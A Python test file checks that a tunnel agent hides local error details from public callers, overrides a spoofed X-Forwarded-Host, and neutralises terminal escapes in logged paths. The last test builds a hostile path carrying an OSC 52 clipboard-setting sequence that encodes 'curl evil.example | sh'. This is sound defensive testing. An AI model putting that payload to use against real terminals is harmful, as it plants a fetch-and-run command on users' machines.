"""The agent's safety rules end to end, through the local gateway and the real functions: the
public caller learns nothing about the developer's machine from the agent's own errors, and
``--host-header rewrite`` hands the local service one, true, X-Forwarded-Host."""

from __future__ import annotations

import json
import re
import socket
import subprocess

from tests.tunnel.conftest import TUNNEL, Agent, Tunnel


def closed_port() -> int:
    with socket.socket() as probe:  # a port nobody listens on
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def rewriting_agent(tunnel: Tunnel, token: str) -> Agent:
    """``tunnel http PORT --host-header rewrite``, run as ``Tunnel.agent`` runs one."""
    started = subprocess.Popen(
        [
            str(TUNNEL),
            "http",
            str(tunnel.app.port),
            "--url",
            tunnel.gateway.websocket_url,
            "--token",
            token,
            "--host-header",
            "rewrite",
        ],
        cwd=tunnel.root,
        env={**tunnel.environment, "TUNNEL_BACKOFF_INITIAL_SECONDS": "0.2"},
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    agent = Agent(started)
    tunnel.agents.append(agent)  # stopped with the others
    return agent


def test_a_dead_local_service_is_named_only_on_the_agents_terminal(tunnel: Tunnel) -> None:
    token = tunnel.token("safety-down")
    port = closed_port()
    agent = tunnel.agent(token, port=port)
    agent.wait_for(r"^Forwarding ")
    status, headers, body = tunnel.request("safety-down", "GET", "/private/path")
    assert status == 502
    assert ("x-tunnel-error", "local-refused") in [(n.lower(), v) for n, v in headers]
    assert body == b"tunnel: the tunnel's local service refused the connection\n"
    assert b"127.0.0.1" not in body and str(port).encode() not in body
    agent.wait_for(rf"^tunnel: GET /private/path: connection refused by 127\.0\.0\.1:{port}$")
    assert not [line for line in agent.lines if token in line or "session=" in line]
    agent.stop()


def test_rewrite_gives_the_local_service_one_true_x_forwarded_host(tunnel: Tunnel) -> None:
    token = tunnel.token("safety-rewrite")
    agent = rewriting_agent(tunnel, token)
    agent.wait_for(r"^Forwarding ")
    status, _, body = tunnel.request(
        "safety-rewrite", "GET", "/echo", [("X-Forwarded-Host", "evil.example")]
    )
    assert status == 200, body
    sent = json.loads(body)["headers"]
    # Exactly one: the Host the request reached the HTTP API with (in dev, the API's own
    # endpoint, locally localhost:<port>), not the caller's.
    (forwarded_host,) = [value for name, value in sent if name == "x-forwarded-host"]
    assert forwarded_host == tunnel.gateway.host("safety-rewrite")
    assert [value for name, value in sent if name == "host"] == [f"127.0.0.1:{tunnel.app.port}"]
    agent.wait_for(r"^GET /echo 200 ")
    assert not [line for line in agent.lines if re.search(re.escape(token), line)]
    agent.stop()


def test_terminal_escapes_in_a_path_reach_the_log_only_as_visible_escapes(tunnel: Tunnel) -> None:
    # API Gateway hands the function rawPath percent-decoded: %1B is a real ESC at the agent.
    # OSC 52 sets the clipboard (to base64 "curl evil.example | sh"); CSI 2K and CR rewrite the
    # line. The log line shows each as an escape; the query, sent encoded, stays encoded.
    token = tunnel.token("safety-escape")
    agent = tunnel.agent(token)
    agent.wait_for(r"^Forwarding ")
    osc52 = "%1B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==%07"
    status, _, _ = tunnel.request("safety-escape", "GET", f"/{osc52}x%C2%9B2K%0D?q=%1B%5B2K")
    assert status == 200
    agent.wait_for(
        r"^GET /\\x1b\]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07x\\x9b2K\\x0d\?q=%1B%5B2K 200 "
    )
    assert not [line for line in agent.lines if re.search("[\x00-\x1f\x7f-\x9f]", line)]
    agent.stop()
